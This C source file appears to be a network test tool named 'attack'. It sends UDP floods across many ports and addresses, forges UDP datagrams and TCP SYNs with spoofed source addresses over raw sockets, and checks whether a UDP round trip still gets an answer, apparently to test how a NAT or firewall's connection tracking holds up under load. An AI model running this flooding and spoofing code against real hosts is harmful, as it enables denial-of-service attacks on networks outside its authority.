// SPDX-License-Identifier: Apache-2.0
/*
 *   attack flood ADDRESS COUNT                  a datagram to each of so many ports of it and of the addresses behind it
 *   attack forge udp|tcp ADDRESS PORT COUNT SOURCE   so many datagrams or SYNs, each from another port of SOURCE and those behind it
 *   attack ask ADDRESS PORT                     a datagram, and whether its answer comes within 60 s
 *   attack answer PORT                          says when it is asked, and answers when it reads a line
 */
#include "attack.h"

#include <errno.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <netinet/udp.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define PORTS 60000
#define PATIENT_MS 60000

int flood(int argc, char **argv)
{
	union address to;
	int fd = socket(AF_INET, SOCK_DGRAM, 0), sent = 0, count;
	uint32_t first;

	if (argc != 4 || parse_address(argv[2], 1, &to) || to.any.sa_family != AF_INET)
		return 255;
	first = ntohl(to.v4.sin_addr.s_addr);
	count = atoi(argv[3]);
	for (int i = 0; i < count; i++) {
		to.v4.sin_addr.s_addr = htonl(first + i / PORTS);
		to.v4.sin_port = htons(1 + i % PORTS);
		sent += sendto(fd, "f", 1, 0, &to.any, length_of(&to)) == 1;
	}
	printf("%d\n", sent);
	close(fd);
	return 0;
}

static uint16_t sum(uint32_t so_far, const void *what, size_t size)
{
	const uint8_t *bytes = what;

	for (size_t i = 0; i < size; i += 2)
		so_far += bytes[i] << 8 | bytes[i + 1];
	while (so_far >> 16)
		so_far = (so_far & 0xffff) + (so_far >> 16);
	return so_far;
}

int forge(int argc, char **argv)
{
	struct {
		struct iphdr ip;
		union {
			struct udphdr udp;
			struct tcphdr tcp;
		};
	} packet = { .ip = { .version = 4, .ihl = 5, .ttl = 64 } };
	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW), tcp, sent = 0, count;
	union address to, source;
	size_t head;

	if (argc != 7 || fd < 0 || parse_address(argv[3], atoi(argv[4]), &to) || parse_address(argv[6], 0, &source))
		return 255;
	tcp = !strcmp(argv[2], "tcp");
	head = tcp ? sizeof(packet.tcp) : sizeof(packet.udp);
	count = atoi(argv[5]);
	packet.ip.protocol = tcp ? IPPROTO_TCP : IPPROTO_UDP;
	packet.ip.daddr = to.v4.sin_addr.s_addr;
	for (int i = 0; i < count; i++) {
		packet.ip.saddr = htonl(ntohl(source.v4.sin_addr.s_addr) + i / PORTS);
		memset(&packet.tcp, 0, sizeof(packet.tcp));
		packet.udp.source = htons(1024 + i % PORTS);
		packet.udp.dest = to.v4.sin_port;
		if (tcp) {
			packet.tcp.seq = htonl(i);
			packet.tcp.doff = 5;
			packet.tcp.syn = 1;
			packet.tcp.window = htons(1000);
			packet.tcp.check = htons(~sum(sum(IPPROTO_TCP + head, &packet.ip.saddr, 8), &packet.tcp, head));
		} else {
			packet.udp.len = htons(head);
		}
		sent += sendto(fd, &packet, sizeof(packet.ip) + head, 0, &to.any, sizeof(to.v4)) > 0;
	}
	printf("%d\n", sent);
	close(fd);
	return 0;
}

int ask(int argc, char **argv)
{
	struct pollfd answer = { .events = POLLIN };
	union address to;
	char heard[8];

	if (argc != 4 || parse_address(argv[2], atoi(argv[3]), &to))
		return 255;
	answer.fd = socket(to.any.sa_family, SOCK_DGRAM, 0);
	if (sendto(answer.fd, "q", 1, 0, &to.any, length_of(&to)) != 1) {
		puts(strerror(errno));
		return 1;
	}
	puts(poll(&answer, 1, PATIENT_MS) == 1 && recv(answer.fd, heard, sizeof(heard), 0) == 1 ? "answered" : "no answer");
	return 0;
}

int answer(int argc, char **argv)
{
	struct sockaddr_in here = { .sin_family = AF_INET };
	union address from;
	socklen_t size = sizeof(from);
	char line[8];
	int fd = socket(AF_INET, SOCK_DGRAM, 0);

	if (argc != 3)
		return 255;
	here.sin_port = htons(atoi(argv[2]));
	if (bind(fd, (struct sockaddr *)&here, sizeof(here)))
		return 1;
	puts("ready");
	fflush(stdout);
	if (recvfrom(fd, line, sizeof(line), 0, &from.any, &size) != 1)
		return 1;
	puts("asked");
	fflush(stdout);
	if (!fgets(line, sizeof(line), stdin))
		return 1;
	return sendto(fd, "a", 1, 0, &from.any, size) == 1 ? 0 : 1;
}
